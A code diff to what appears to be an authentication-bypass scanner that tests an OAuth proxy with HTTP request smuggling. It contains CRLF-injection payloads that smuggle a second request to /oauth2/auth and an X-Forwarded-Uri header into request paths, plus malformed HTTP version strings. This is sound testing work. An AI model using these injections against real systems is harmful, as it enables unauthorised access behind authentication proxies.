@@ -1,5 +1,5 @@
 import { everybody, Knock, knocks, opensNothing, product, tryAll } from './tries';
-import { sending, writing, written } from './wire';
+import { pathsIn, sending, writing, written } from './wire';
 import { Attack, Family, notTried } from '../attack';
 import { openFor } from '../doors';
 
@@ -35,7 +35,10 @@ export const SMUGGLING: readonly Attack[] = [
     reference: 'CWE-93; nginx, $uri in proxy_pass',
     run: (target) => {
       const inject = (line: string) => encodeURIComponent(`\r\n${line}\r\n\r\nGET /oauth2/auth HTTP/1.1\r\nHost: x\r\n\r\n`);
-      return tryAll(target, product(knocks(target), ['?x=', '/', '?', '%20HTTP/1.1']).map(({ variation, ...knock }) => writing(target, knock, `encoded line end behind ${variation}`, { target: `${knock.door.path}${variation}${inject('X-Forwarded-Uri: /oauth2/start')}` })), judge);
+      return tryAll(target, product(knocks(target), ['?x=', '/', '?', '%20HTTP/1.1']).map(({ variation, ...knock }) => {
+        const path = `${knock.door.path}${variation}${inject('X-Forwarded-Uri: /oauth2/start')}`;
+        return writing(target, knock, path, { target: path });
+      }), opensNothing(({ how }) => pathsIn(how)));
     },
   },
   {
@@ -45,7 +48,7 @@ export const SMUGGLING: readonly Attack[] = [
     reason: 'rules of hosts and headers do not hold for them',
     reference: 'RFC 9112, 2.3',
     run: (target) => tryAll(target, product(knocks(target), ['', ' HTTP/0.9', ' HTTP/1.0', ' HTTP/1.2', ' HTTP/2.0', ' HTTP/9.9', ' http/1.1', ' HTTP/1.1 HTTP/1.1', ' HTTPS/1.1', '  HTTP/1.1'])
-      .map(({ variation, ...knock }) => writing(target, knock, `"${variation}"`, { version: variation }, { quietMilliseconds: 700 })), judge),
+      .map(({ variation, ...knock }) => writing(target, knock, `${knock.door.path}${variation}`, { version: variation }, { quietMilliseconds: 700 })), opensNothing(({ how }) => pathsIn(how.replace(/ HTTP\/\d\.\d$/, '')))),
   },
   {
     id: 'smuggling-line-ends',
